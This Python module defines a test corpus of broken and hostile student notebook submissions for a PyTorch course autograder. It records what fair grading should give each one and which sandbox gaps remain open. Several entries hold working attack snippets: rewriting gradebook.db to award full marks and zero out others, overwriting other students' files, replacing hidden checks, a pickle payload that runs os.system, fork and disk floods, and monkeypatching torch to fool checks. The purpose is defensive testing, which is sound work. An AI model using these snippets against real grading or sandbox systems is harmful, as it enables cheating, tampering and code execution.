"""The adversarial corpus: broken and hostile submissions of step 01_tensors,
and what fair grading gives each one.

Each entry builds the file a student hands in from the reference solution
(or the release notebook) and says what must come of it:

- `lost`: the graded cells that must score 0; every other graded cell keeps
  its full points (compared with the reference student's);
- `says`: phrases the student must find in their feedback (the feedback
  HTML, else the autograded notebook), so they know what went wrong;
- `alone`: the entry attacks the course itself (gradebook, source/, the
  hidden checks, other students' files), so it is graded in its own copy
  of the course, next to a witness student, and everything outside its own
  autograded/ and feedback/ folders is compared before and after;
- `gaps`: {aspect: reason} for what the grading system does NOT defend yet
  (aspects: "graded", "score", "says", "isolation", "witness", "processes",
  "leak", "size", "leftovers"; a submission that is not "graded" has no score or
  feedback either);
  that aspect's test is xfail(strict=True) with the reason, so it turns
  into a failure the day the gap is closed and the mark is forgotten.

Nothing here touches anything outside the temporary course copy it is
graded in: the attacks find the course with `course.find_course_root()`.
"""
import copy
import functools
import os
from dataclasses import dataclass, field
from typing import Callable

import nbformat

from course.grader.sandbox import cgroups, kernel_user, launcher

STEP = "01_tensors"
POINTS = {"check-tensors": 2, "check-slices": 2, "check-describe": 1, "check-inplace": 2}
ALL = frozenset(POINTS)
CELL_TIMEOUT = 20     # seconds per cell (--cell-timeout)
NOTEBOOK_TIMEOUT = 60  # seconds per notebook (--notebook-timeout)
MEMORY_LIMIT = "2G"   # per kernel (--memory-limit)
# Small, to keep the disk and process floods fast (nbgrader_config.py reads them).
SCRATCH_LIMIT = "256M"  # the kernel's /tmp, /dev/shm and HOME together (COURSE_SCRATCH_LIMIT)
FILE_SIZE_LIMIT = "192M"  # one file (COURSE_FILE_SIZE_LIMIT)
PROCESS_LIMIT = 256     # processes and threads of one kernel (COURSE_PROCESS_LIMIT)
LIMIT_ENV = {"COURSE_SCRATCH_LIMIT": SCRATCH_LIMIT, "COURSE_FILE_SIZE_LIMIT": FILE_SIZE_LIMIT,
             "COURSE_PROCESS_LIMIT": str(PROCESS_LIMIT)}
# The escapes and leaks are stopped by running student code as an
# unprivileged user (course/grader/sandbox/kernel_user.py). That needs a grader running as
# root and a Python every user can run; where either is missing, the kernel
# runs as the grader, and those entries are known gaps.


@functools.cache
def kernel_runs_as():
    """(user, why): the user student code runs as in these tests, or None and
    why not. Found on first use, not at import: it starts a probe process."""
    return kernel_user.resolve(os.environ.get("COURSE_KERNEL_USER", "auto"))


def __getattr__(name):
    if name == "KERNEL_USER":  # the old constant, for code that still reads it
        return kernel_runs_as()
    raise AttributeError(name)


class AsGrader(dict):
    """Gaps only where student code runs as the grader's own user. Which is
    the case is known at run time (kernel_runs_as), so these gaps are not
    marked at collection: known_gaps() resolves them when a test runs."""


def as_grader(gaps):
    """`gaps` where student code runs as the grader's own user, else none."""
    return AsGrader(gaps)


def known_gaps(entry):
    """The entry's gaps on this machine (resolves kernel_runs_as for AsGrader gaps)."""
    if isinstance(entry.gaps, AsGrader):
        return {} if kernel_runs_as()[0] else dict(entry.gaps)
    return entry.gaps


SCRATCH = launcher.scratch_works()
PIDS_CGROUP = cgroups.missing("pids")


def without_scratch(gaps):
    """`gaps` where the machine gives a kernel no private, limited /tmp."""
    return {} if SCRATCH[0] else {k: f"{v} (no private /tmp here: {SCRATCH[1]})" for k, v in gaps.items()}


def without_pids_cgroup(gaps):
    return {k: f"{v} (no pids cgroup here: {PIDS_CGROUP})" for k, v in gaps.items()} if PIDS_CGROUP else {}


# {student: (cell scores, grade command's row)}, filled as the tests grade;
# tests/adversarial/conftest.py prints it after the run.
REPORT = {}


@dataclass
class Context:
    """What the builders may use: the reference solution, the release
    notebook, a TCP port the grader listens on, a token unique to the run."""
    solution: nbformat.NotebookNode
    released: nbformat.NotebookNode
    port: int = 0
    token: str = "adversarial"

    @property
    def reference(self):
        """A fresh copy of the reference solution, to change at will."""
        return copy.deepcopy(self.solution)

    @property
    def release(self):
        return copy.deepcopy(self.released)

    def solved(self, grade_id):
        """The reference answer of one cell."""
        return self.solution.cells[cell(self.solution, grade_id)].source

    def released_cell(self, grade_id):
        return self.released.cells[cell(self.released, grade_id)].source

    def answers(self, **cells):
        """The reference with some answer cells replaced: answers(slices="...")."""
        from course.grader import instructor

        return instructor.with_cells(self.reference, {k.replace("_", "-"): v for k, v in cells.items()})

    def shallow(self, first=""):
        """Answers that pass every visible assert and fail every hidden check
        (right shapes, wrong numbers), with `first` run before them: what a
        cheat needs the hidden checks to wave through."""
        return self.answers(
            make_tensors=first + "x1 = torch.zeros(4)\nx2 = torch.zeros(2, 4)\nx3 = torch.zeros(2, 2, 4)",
            slices="first_row = torch.ones(4)\nthird_column = torch.ones(2)\nfirst_entries = torch.ones(2)",
            describe="def describe(t):\n    return (2, 3), torch.float32, 'cpu'",
            inplace=("def plus_five(t):\n    return torch.full((3,), 6.0)\n\n\n"
                     "def plus_five_inplace(t):\n    t.fill_(6.0)\n    return t"),
        )


@dataclass
class Entry:
    name: str
    kind: str                      # broken | limits | numbers | cheat | escape
    what: str                      # one line for the report
    build: Callable[[Context], object]  # -> NotebookNode, bytes (the raw file) or None (no notebook)
    lost: frozenset = frozenset()
    says: tuple = ()
    alone: bool = False
    gaps: dict = field(default_factory=dict)
    status: str | None = None      # the grade command's status, when it must be one


def cell(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _moved(ctx, grade_id, before):
    nb = ctx.reference
    moving = nb.cells.pop(cell(nb, grade_id))
    nb.cells.insert(cell(nb, before), moving)
    return nb


def _deleted(ctx, grade_id):
    nb = ctx.reference
    del nb.cells[cell(nb, grade_id)]
    return nb


def _duplicated(ctx):
    # The copy comes after the original, with the same grade_id, edited to pass.
    nb = ctx.answers(slices="first_row = x2[0, :]\nthird_column = x2[:, 3]\nfirst_entries = x3[:, 0, 0]")
    i = cell(nb, "check-slices")
    copy = nbformat.from_dict(nb.cells[i])
    copy.source = "print('Shapes look right.')"
    copy["id"] = "my-copy"
    nb.cells.insert(i + 1, copy)
    return nb


def _edited(ctx):
    # Wrong answer; its check cell emptied and its points raised to 100.
    nb = ctx.answers(slices="first_row = x2[0, :]\nthird_column = x2[:, 3]\nfirst_entries = x3[:, 0, 0]")
    check = nb.cells[cell(nb, "check-slices")]
    check.source = "print('Shapes look right.')"
    check.metadata.nbgrader["points"] = 100
    check.metadata["editable"] = True
    return nb


def _renamed(ctx):
    # New grade_id and cell id for the check: nbgrader no longer knows the cell.
    nb = ctx.reference
    check = nb.cells[cell(nb, "check-slices")]
    check.metadata.nbgrader["grade_id"] = "my-check"
    check["id"] = "my-check"
    return nb


def _retyped(ctx):
    # The check cell turned into markdown, its id changed: nothing to run?
    nb = ctx.answers(slices="first_row = x2[0, :]\nthird_column = x2[:, 3]\nfirst_entries = x3[:, 0, 0]")
    i = cell(nb, "check-slices")
    old = nb.cells[i]
    new = nbformat.v4.new_markdown_cell("Shapes look right, trust me.", metadata=old.metadata)
    new["id"] = "not-a-check"
    nb.cells[i] = new
    return nb


def _empty(ctx):
    nb = nbformat.v4.new_notebook()
    nb.metadata = ctx.release.metadata
    return nb


def _extra_cells(ctx, after, sources):
    nb = ctx.reference
    i = cell(nb, after)
    for k, source in enumerate(sources):
        nb.cells.insert(i + 1 + k, nbformat.v4.new_code_cell(source))
    return nb


CORRECT_SLICES = "first_row = x2[0, :]\nthird_column = x2[:, 2]\nfirst_entries = x3[:, 0, 0]"
SPAWN = "import subprocess\n"


def write_files(folder, total_mib, file_mib, token, keep_going=False):
    """Code that writes `total_mib` into `folder`, in files of `file_mib`
    named `token`-N; with `keep_going`, the
    first failed write ends the filling quietly (a full disk, not an error)."""
    code = (f"import os\nblock = bytes(2**20)\nfolder = os.path.expanduser({folder!r})\n"
            f"try:\n"
            f"    for i in range({total_mib // file_mib}):\n"
            f"        with open(os.path.join(folder, '{token}-%d' % i), 'wb') as f:\n"
            f"            for _ in range({file_mib}):\n"
            f"                f.write(block)\n"
            f"except OSError as error:\n"
            f"    print('the write stopped:', error)\n"
            f"    {'pass' if keep_going else 'raise'}\n")
    return code


def flood(token, count):
    """Code that starts `count` processes (a shell and its sleep, half each),
    each carrying the token in its environment."""
    return (SPAWN + f"import os\nfor i in range({count // 2}):\n"
            f"    subprocess.Popen(['sh', '-c', 'sleep 1000; : {token}-flood'], env={{**os.environ, 'FLOOD': '{token}'}})\n")

# -- attacks on the course, run from inside the kernel --------------------------

# The kernel runs in <course>/autograded/<student>/<step>/. (Its own search
# for the course would stop at folders it cannot read.)
FIND_ROOT = "from pathlib import Path\nroot = Path.cwd().parents[2]\n"

WRITE_GRADEBOOK = FIND_ROOT + """\
from nbgrader.api import Gradebook
import os
with Gradebook(f"sqlite:///{root / 'gradebook.db'}", os.environ.get("COURSE_ID", "pytorch-baby-steps")) as gb:
    for student in [s.id for s in gb.students]:
        try:
            mine = gb.find_submission_notebook("01_tensors", "01_tensors", student)
        except Exception:
            continue
        for g in mine.grades:  # full marks for me, nothing for the others
            g.manual_score = g.max_score if student == "write-gradebook" else 0
    gb.db.commit()
"""

WRITE_SOURCE = FIND_ROOT + """\
try:
    import json
    for folder in ("source", "release"):
        path = root / folder / "01_tensors" / "01_tensors.ipynb"
        nb = json.loads(path.read_text())
        nb["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "pwned", "id": "pwned"})
        path.write_text(json.dumps(nb))
    (root / "source" / "01_tensors" / "pwned.txt").write_text("pwned")
except OSError as error:  # refused: the attack fails, the answers below still count
    print(error)
"""

TAMPER_CHECKS = FIND_ROOT + """\
(root / "tests" / "hidden" / "check_01_tensors.py").write_text(
    "".join(f"def test_{name}(nb):\\n    pass\\n" for name in ("tensors", "slices", "describe", "inplace")))
"""

VANDALIZE = FIND_ROOT + """\
try:
    import shutil
    for folder in ("submitted", "autograded", "feedback"):
        for other in (root / folder).iterdir():
            if other.name != "vandalize-others":
                for f in other.rglob("*.ipynb"):
                    f.write_text("{}")
                for f in other.rglob("*.html"):
                    f.write_text("pwned")
except OSError as error:  # refused: the attack fails, the answers below still count
    print(error)
"""

READ_HIDDEN = FIND_ROOT + """\
print((root / "tests" / "hidden" / "check_01_tensors.py").read_text())
for other in (root / "submitted").iterdir():
    for f in other.rglob("*.ipynb"):
        print(f, f.read_text()[:2000])
"""

PROBE = FIND_ROOT + """\
import os, sys, course, torch
targets = {
    "gradebook": root / "gradebook.db",
    "source/": root / "source",
    "tests/hidden/": root / "tests" / "hidden",
    "other students' submissions": root / "submitted",
    "the course package the grader imports": os.path.dirname(course.__file__),
    "the torch the grader imports": os.path.dirname(torch.__file__),
    "the Python environment": sys.prefix,
}
for name, path in targets.items():
    print(f"PROBE {name}: read={os.access(path, os.R_OK)} write={os.access(path, os.W_OK)} uid={os.getuid()}")
"""

FORGE_REPLY = """\
import base64, io, os, pickle
class Payload:
    def __reduce__(self):
        return (os.system, ("touch FORGED-REPLY-RAN-IN-GRADER",))
def forged(namespace, request):
    return base64.b64encode(pickle.dumps(("ok", ("value", Payload())))).decode("ascii")
get_ipython().user_ns["__course_judge__"]["answer"] = forged
"""


def corpus():
    """[Entry], in the order they are reported."""
    e = []

    # -- broken notebooks ---------------------------------------------------
    e.append(Entry("syntax-error", "broken", "a syntax error in an answer cell",
                   lambda c: c.answers(slices="first_row = x2[0, :\nthird_column = x2[:, 2]"),
                   lost={"check-slices"}, says=("SyntaxError",)))
    e.append(Entry("exception-in-answer", "broken", "an answer cell raises",
                   lambda c: c.answers(describe="raise ValueError('my describe is not ready')"),
                   lost={"check-describe"}, says=("ValueError", "my describe is not ready",
                                                  "does not define `describe`")))
    e.append(Entry("untouched-answer", "broken", "one answer cell left as released",
                   lambda c: c.answers(inplace=c.released_cell("inplace")),
                   lost={"check-inplace"}, says=("NotImplementedError",)))
    e.append(Entry("deleted-test-cell", "broken", "a graded test cell deleted (answer right)",
                   lambda c: _deleted(c, "check-slices"),
                   says=("was missing",)))
    e.append(Entry("reordered-test-cell", "broken", "a test cell moved above its answer",
                   lambda c: _moved(c, "check-inplace", before="inplace"),
                   lost={"check-inplace"}, says=("does not define `plus_five`",)))
    e.append(Entry("duplicated-test-cell", "broken", "a test cell duplicated and edited to pass (answer wrong)",
                   _duplicated, lost={"check-slices"}, says=("third_column should be entry 2",)))
    e.append(Entry("edited-test-cell", "broken", "a test cell emptied, its points set to 100 (answer wrong)",
                   _edited, lost={"check-slices"}, says=("third_column should be entry 2",)))
    e.append(Entry("renamed-test-cell", "broken", "a test cell's grade_id and cell id changed (answer right)",
                   _renamed, says=("was missing",)))
    e.append(Entry("retyped-test-cell", "broken", "a test cell turned into markdown (answer wrong)",
                   _retyped, lost={"check-slices"}, says=("third_column should be entry 2",)))
    e.append(Entry("empty-notebook", "broken", "a notebook with no cells",
                   _empty, lost=ALL, says=("was missing",)))
    e.append(Entry("not-json", "broken", "a .ipynb that is not valid JSON",
                   lambda c: b'{"cells": [ this is not json',
                   lost=ALL, says=("not valid JSON",), status="unreadable"))
    e.append(Entry("missing-notebook", "broken", "the submission folder holds no notebook",
                   lambda c: None, lost=ALL, says=("has no 01_tensors.ipynb",), status="unreadable"))

    # -- limits: time, memory, crashes, output, processes, network ----------
    e.append(Entry("infinite-loop", "limits", "while True: pass in an answer cell",
                   lambda c: c.answers(slices="while True:\n    pass"),
                   lost={"check-slices"}, says=(f"ran longer than {CELL_TIMEOUT} s",), status="limit"))
    e.append(Entry("ignores-interrupt", "limits", "an endless loop that ignores SIGINT",
                   lambda c: c.answers(describe=("import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                                 "while True:\n    time.sleep(0.1)")),
                   lost={"check-describe", "check-inplace"}, says=("did not stop when interrupted",),
                   status="limit"))
    e.append(Entry("sleep-forever", "limits", "time.sleep(10**6) in an answer cell",
                   lambda c: c.answers(inplace="import time\ntime.sleep(10**6)"),
                   lost={"check-inplace"}, says=(f"ran longer than {CELL_TIMEOUT} s",), status="limit"))
    e.append(Entry("slow-notebook", "limits", f"extra cells of 15 s each, past the {NOTEBOOK_TIMEOUT} s notebook limit",
                   lambda c: _extra_cells(c, "check-describe", ["import time\ntime.sleep(15)"] * 5),
                   lost={"check-inplace"}, says=("time limit for a whole notebook",), status="limit"))
    e.append(Entry("huge-memory", "limits", f"8 GB of floats under a {MEMORY_LIMIT} limit",
                   lambda c: c.answers(slices="hog = torch.ones(2_000_000_000)\n" + CORRECT_SLICES),
                   lost={"check-slices"}, says=("ran out of memory",), status="limit"))
    e.append(Entry("os-exit", "limits", "os._exit(1) kills the kernel",
                   lambda c: c.answers(describe="import os\nos._exit(1)"),
                   lost={"check-describe", "check-inplace"}, says=("kernel died while running this cell",),
                   status="limit"))
    e.append(Entry("segfault", "limits", "a segfault through ctypes",
                   lambda c: c.answers(describe="import ctypes\nctypes.string_at(0)"),
                   lost={"check-describe", "check-inplace"}, says=("kernel died while running this cell",),
                   status="limit"))
    e.append(Entry("sys-exit", "limits", "sys.exit() in an answer cell",
                   lambda c: c.answers(slices="import sys\nsys.exit('bye')"),
                   lost={"check-slices"}, says=("SystemExit",)))
    e.append(Entry("megabytes-of-output", "limits", "8 MB printed on one line (answers right)",
                   lambda c: c.answers(slices="print('x' * 8_000_000)\n" + CORRECT_SLICES),
                   says=("more characters cut",)))
    e.append(Entry("many-lines-of-output", "limits", "200 000 printed lines (answers right)",
                   lambda c: c.answers(slices="for i in range(200_000):\n    print(i)\n" + CORRECT_SLICES)))
    e.append(Entry("child-process", "limits", "a child process (sleep 1000) left running",
                   lambda c: c.answers(slices=SPAWN + f"subprocess.Popen(['sh', '-c', 'sleep 1000; : {c.token}-child'])\n"
                                       + CORRECT_SLICES)))
    e.append(Entry("daemon-process", "limits", "a double-forked daemon in its own session",
                   lambda c: c.answers(slices=SPAWN + (
                       f"subprocess.Popen(['sh', '-c', 'sleep 1000; : {c.token}-session'], start_new_session=True)\n"
                       f"subprocess.run(['sh', '-c', '(sleep 1000; : {c.token}-daemon) > /dev/null 2>&1 &'], "
                       "start_new_session=True)\n") + CORRECT_SLICES)))
    # Disk and processes: each stopped at its limit, and nothing left on the
    # runner (test_nothing_is_left_on_the_runner).
    disk = ("wrote more than a notebook may write",)
    e.append(Entry("huge-file-in-home", "limits", f"a 6 GiB file into HOME (cut: {FILE_SIZE_LIMIT} + 128M)",
                   lambda c: c.answers(slices=write_files("~", 320, 320, f"{c.token}-huge-file-in-home") + CORRECT_SLICES),
                   lost={"check-slices"}, says=disk, status="limit",
                   gaps=without_scratch({"leftovers": "the file is written on the runner's disk"})))
    e.append(Entry("fill-tmp", "limits", f"1 GiB into /tmp, past the {SCRATCH_LIMIT} private /tmp",
                   lambda c: c.answers(slices=write_files("/tmp", 1024, 128, f"{c.token}-fill-tmp") + CORRECT_SLICES),
                   lost={"check-slices"}, says=disk, status="limit",
                   gaps=without_scratch({"leftovers": "the files stay in the runner's /tmp"})))
    e.append(Entry("fill-shm", "limits", f"3 GiB into /dev/shm (RAM), past the {SCRATCH_LIMIT} private one",
                   lambda c: c.answers(slices=write_files("/dev/shm", 3072, 128, f"{c.token}-fill-shm") + CORRECT_SLICES),
                   lost={"check-slices"}, says=disk, status="limit",
                   gaps=without_scratch({"leftovers": "the files stay in the runner's /dev/shm"})))
    e.append(Entry("full-disk", "limits", "fills its own HOME until a write fails, then answers right",
                   lambda c: c.answers(slices=write_files("~", 4096, 1, f"{c.token}-full-disk", keep_going=True) + CORRECT_SLICES),
                   gaps=without_scratch({"leftovers": "the files fill the runner's disk"})))
    e.append(Entry("fork-flood", "limits", f"800 processes (each sleeping), past the limit of {PROCESS_LIMIT}",
                   lambda c: c.answers(slices=flood(c.token, 800) + CORRECT_SLICES),
                   lost={"check-slices"}, says=("could not start a process",), status="limit",
                   gaps=without_pids_cgroup({"score": "all 800 start", "says": "all 800 start",
                                             "leftovers": "all 800 start"})))
    e.append(Entry("network", "limits", "connects to a TCP server on the grader's loopback",
                   lambda c: c.answers(slices=("import socket\n"
                                               f"socket.create_connection(('127.0.0.1', {c.port}), timeout=5).close()\n"
                                               + CORRECT_SLICES)),
                   lost={"check-slices"}, says=("no network access while grading",), status="limit"))

    # -- numbers: NaN, inf, shapes, dtypes, devices -------------------------
    e.append(Entry("nan-values", "numbers", "a NaN among x1's numbers",
                   lambda c: c.answers(make_tensors=(
                       "x1 = torch.tensor([1.0, 2.0, float('nan'), 4.0])\n"
                       "x2 = torch.tensor([[5.0, 6.0, 7.0, 8.0], [9.0, 10.0, 11.0, 12.0]])\n"
                       "x3 = torch.arange(1.0, 17.0).reshape(2, 2, 4)")),
                   lost={"check-tensors"}, says=("x1 holds the wrong numbers", "nan")))
    e.append(Entry("inf-values", "numbers", "plus_five_inplace adds inf",
                   lambda c: c.answers(inplace=("def plus_five(t):\n    return t + 5\n\n\n"
                                                "def plus_five_inplace(t):\n    return t.add_(float('inf'))")),
                   lost={"check-inplace"}, says=("plus_five_inplace",)))
    e.append(Entry("wrong-shape", "numbers", "x1 is 2x2 instead of 4",
                   lambda c: c.answers(make_tensors=(
                       "x1 = torch.tensor([[1.0, 2.0], [3.0, 4.0]])\n"
                       "x2 = torch.tensor([[5.0, 6.0, 7.0, 8.0], [9.0, 10.0, 11.0, 12.0]])\n"
                       "x3 = torch.arange(1.0, 17.0).reshape(2, 2, 4)")),
                   lost={"check-tensors"}, says=("x1 should have shape (4,), found (2, 2)",)))
    e.append(Entry("wrong-dtype", "numbers", "float64 instead of float32",
                   lambda c: c.answers(make_tensors=(
                       "x1 = torch.tensor([1.0, 2.0, 3.0, 4.0], dtype=torch.float64)\n"
                       "x2 = torch.tensor([[5.0, 6.0, 7.0, 8.0], [9.0, 10.0, 11.0, 12.0]])\n"
                       "x3 = torch.arange(1.0, 17.0).reshape(2, 2, 4)")),
                   lost={"check-tensors"}, says=("found torch.float64",)))
    e.append(Entry("meta-device", "numbers", "x1 on the meta device (no data; no GPU here)",
                   lambda c: c.answers(make_tensors=(
                       "x1 = torch.empty(4, device='meta')\n"
                       "x2 = torch.tensor([[5.0, 6.0, 7.0, 8.0], [9.0, 10.0, 11.0, 12.0]])\n"
                       "x3 = torch.arange(1.0, 17.0).reshape(2, 2, 4)")),
                   lost={"check-tensors"}, says=("meta",)))

    # -- cheating -------------------------------------------------------------
    e.append(Entry("shallow", "cheat", "no cheat: answers that pass the visible asserts only (baseline)",
                   lambda c: c.shallow(), lost=ALL))
    e.append(Entry("redefine-hidden-check", "cheat", "course.grading.hidden_check replaced by a no-op",
                   lambda c: c.shallow("import course.grading\n"
                                       "course.grading.hidden_check = lambda *a, **k: print('passed')\n"),
                   lost=ALL, says=("x1 holds the wrong numbers",)))
    e.append(Entry("fake-grading-module", "cheat", "a fake course.grading planted in sys.modules",
                   lambda c: c.shallow("import sys, types\nfake = types.ModuleType('course.grading')\n"
                                       "fake.hidden_check = lambda *a, **k: print('passed')\n"
                                       "sys.modules['course.grading'] = fake\n"),
                   lost=ALL, says=("x1 holds the wrong numbers",)))
    e.append(Entry("patch-torch", "cheat", "torch.equal, torch.allclose and Tensor.__eq__ always True",
                   lambda c: c.shallow("torch.equal = lambda a, b: True\ntorch.allclose = lambda *a, **k: True\n"
                                       "torch.Tensor.__eq__ = lambda self, other: True\n"),
                   lost=ALL, says=("x1 holds the wrong numbers",)))
    e.append(Entry("patch-builtins", "cheat", "builtins.isinstance, all and any lie",
                   lambda c: c.shallow("import builtins\n_isinstance = builtins.isinstance\n"
                                       "builtins.isinstance = lambda o, t: True if t is torch.Tensor else _isinstance(o, t)\n"
                                       "builtins.all = builtins.any = lambda it: True\n"),
                   lost=ALL))
    e.append(Entry("lying-tensor", "cheat", "a Tensor subclass whose comparisons always say equal",
                   _liar, lost={"check-tensors"}))
    e.append(Entry("forged-judge-reply", "cheat", "replaces the judge's kernel half with a pickle that runs code",
                   lambda c: c.answers(slices=FORGE_REPLY + CORRECT_SLICES),
                   lost={"check-slices", "check-describe", "check-inplace"}, says=("Weights only load failed",)))
    e.append(Entry("read-hidden-tests", "cheat", "prints tests/hidden/check_01_tensors.py and other students' notebooks",
                   lambda c: c.shallow(READ_HIDDEN), lost=ALL,
                   gaps=as_grader({"leak": "the kernel runs as root with the grader's files: it can read tests/hidden/ "
                                 "and other students' submissions, and print them into its own feedback"})))
    e.append(Entry("probe-access", "cheat", "asks what the kernel may read and write",
                   lambda c: c.answers(make_tensors=PROBE + c.solved("make-tensors")),
                   gaps=as_grader({"leak": "the kernel runs as root: it may write the gradebook, source/, tests/hidden/, "
                                 "and even the course package and the torch that the grader itself imports"})))

    # -- escape: attacks on the course, each graded in its own copy ---------
    e.append(Entry("write-gradebook", "escape", "gives itself full marks and the others 0 in gradebook.db",
                   lambda c: c.shallow(WRITE_GRADEBOOK), lost=ALL, alone=True,
                   gaps=as_grader({"score": "the kernel can open gradebook.db and set manual_score, which "
                                  "autograde keeps: the cheat gets full marks",
                         "isolation": "the kernel can rewrite other students' grades in gradebook.db",
                         "witness": "the kernel sets the manual_score of the witness graded beside it to 0"})))
    e.append(Entry("write-source", "escape", "edits source/ and release/ and adds a file",
                   lambda c: c.answers(make_tensors=WRITE_SOURCE + c.solved("make-tensors")),
                   alone=True,
                   gaps=as_grader({"isolation": "the kernel can write source/ and release/ of the course"})))
    e.append(Entry("tamper-hidden-checks", "escape", "rewrites tests/hidden/check_01_tensors.py to pass everything",
                   lambda c: c.shallow(TAMPER_CHECKS), lost=ALL, alone=True,
                   gaps=as_grader({"score": "the kernel can rewrite tests/hidden/check_01_tensors.py before the judge "
                                  "imports it: its wrong answers pass",
                         "isolation": "the kernel can rewrite the hidden checks of the course"})))
    e.append(Entry("vandalize-others", "escape", "overwrites other students' submitted, autograded and feedback files",
                   lambda c: c.answers(make_tensors=VANDALIZE + c.solved("make-tensors")),
                   alone=True,
                   gaps=as_grader({"isolation": "the kernel can overwrite other students' submissions, autograded "
                                      "notebooks and feedback"})))
    return e


def _liar(ctx):
    liar = ("class Liar(torch.Tensor):\n"
            "    @classmethod\n"
            "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
            "        if func in (torch.equal, torch.Tensor.__eq__, torch.allclose):\n"
            "            return True\n"
            "        return super().__torch_function__(func, types, args, kwargs or {})\n\n\n")
    return ctx.answers(make_tensors=liar + (
        "x1 = torch.zeros(4).as_subclass(Liar)\n"
        "x2 = torch.tensor([[5.0, 6.0, 7.0, 8.0], [9.0, 10.0, 11.0, 12.0]])\n"
        "x3 = torch.arange(1.0, 17.0).reshape(2, 2, 4)"))


def write_submission(root, student, content):
    """Put `content` where nbgrader collect leaves a submission:
    submitted/<student>/<step>/<step>.ipynb and its timestamp.txt."""
    from pathlib import Path

    folder = Path(root) / "submitted" / student / STEP
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "timestamp.txt").write_text("2026-01-01 12:00:00.000000 UTC")
    path = folder / f"{STEP}.ipynb"
    if content is None:
        (folder / "Untitled.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    elif isinstance(content, bytes):
        path.write_bytes(content)
    else:
        nbformat.write(content, path)
    return folder
